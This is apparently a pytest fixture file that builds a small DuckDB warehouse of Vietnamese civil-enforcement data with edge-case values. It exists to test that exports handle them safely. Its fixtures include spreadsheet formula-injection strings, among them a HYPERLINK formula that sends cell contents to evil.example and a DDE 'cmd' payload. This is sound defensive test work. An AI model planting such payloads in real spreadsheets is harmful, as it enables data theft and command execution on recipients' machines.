"""A small real DuckDB warehouse whose public tables hold the awkward values an export meets:
codes with leading zeros, rates that need 17 digits, NULLs, times with a zone, lists, and text
from outside that a spreadsheet would run as a formula."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import duckdb
import pytest

HOSTILE_FILE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây").xlsx'
HOSTILE_TEXTS = (HOSTILE_FILE, "+cmd|' /C calc'!A0", "@SUM(1)", "\tTab", "\rCR", "-2+3+cmd")

_TABLES = (
    """create table fct_enforcement (province_code varchar, year integer, unit_code varchar,
        cases_accepted bigint, case_resolution_rate double, reported_case_resolution_rate double,
        reported_case_resolution_rate_decimals integer, money_resolved bigint,
        cases_source_file varchar, cases_received_at timestamptz, cases_report_date date)""",
    """create table rejected_reports (source_file varchar, sha256 varchar,
        received_at timestamptz, reason varchar, reason_code varchar, year integer,
        unit_code varchar)""",
    """create table dim_unit (unit_key varchar, unit_code varchar, unit_name varchar,
        unit_type varchar, province_code varchar, valid_from date, valid_to date,
        is_current boolean, aliases varchar[])""",
    "create table rpt_cluster_year (year integer, sessions bigint, success_rate double)",
)
RECEIVED = datetime(2025, 11, 20, 3, 4, 5, 123000, tzinfo=UTC)
ENFORCEMENT = [
    ("08", 2025, "THADS-08", 27045, 89.67763266656067, 89.68, 2, 1_826_513_000_123,
     HOSTILE_FILE, RECEIVED, date(2025, 10, 15)),
    ("15", 2025, "THADS-15", None, 100 / 3, None, None, 0, "-2+3+cmd", RECEIVED, None),
    ("02", 2024, "THADS-02", 3001, 0.1 + 0.2, 0.3, 1, 410_870, "2024_THADS-02.xlsx", RECEIVED,
     date(2024, 10, 1)),
    ("10", 2024, "THADS-10", 0, None, None, None, None, "@SUM(1).xlsx", None, None),
]
REJECTED = [
    (HOSTILE_FILE, "a" * 64, RECEIVED, 'Tệp "=HYPERLINK(…)": không đọc được.', "unreadable", 2025,
     "STP-08"),
    ("+cmd|' /C calc'!A0.csv", "b" * 64, RECEIVED, "\tTab", "no_forms", None, None),
    ("ok.xlsx", "c" * 64, RECEIVED, "\rCR", "unit_unknown", 2024, "THADS-15"),
]
UNITS = [
    ("THADS-15:", "THADS-15", "Cục Thi hành án dân sự tỉnh Yên Bái", "THADS", "15", None,
     date(2025, 6, 30), False, ["Cục THADS Yên Bái", "=1+1"]),
    ("THADS-15:2025-07-01", "THADS-15", "Thi hành án dân sự tỉnh Lào Cai", "THADS", "15",
     date(2025, 7, 1), None, True, []),
    ("STP-08:", "STP-08", "Sở Tư pháp tỉnh Tuyên Quang", "STP", "08", None, None, True, None),
]


@pytest.fixture
def warehouse(tmp_path: Path) -> Path:
    path = tmp_path / "warehouse" / "tuphap.duckdb"
    path.parent.mkdir()
    con = duckdb.connect(str(path))
    try:
        for ddl in _TABLES:
            con.execute(ddl)
        con.executemany("insert into fct_enforcement values (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
                        ENFORCEMENT)
        con.executemany("insert into rejected_reports values (?, ?, ?, ?, ?, ?, ?)", REJECTED)
        con.executemany("insert into dim_unit values (?, ?, ?, ?, ?, ?, ?, ?, ?)", UNITS)
        con.execute("insert into rpt_cluster_year values (2022, 27430, 84.82444), "
                    "(2023, null, null)")
    finally:
        con.close()
    return path


@pytest.fixture
def reader(warehouse: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    con = duckdb.connect(str(warehouse), read_only=True)
    try:
        yield con
    finally:
        con.close()
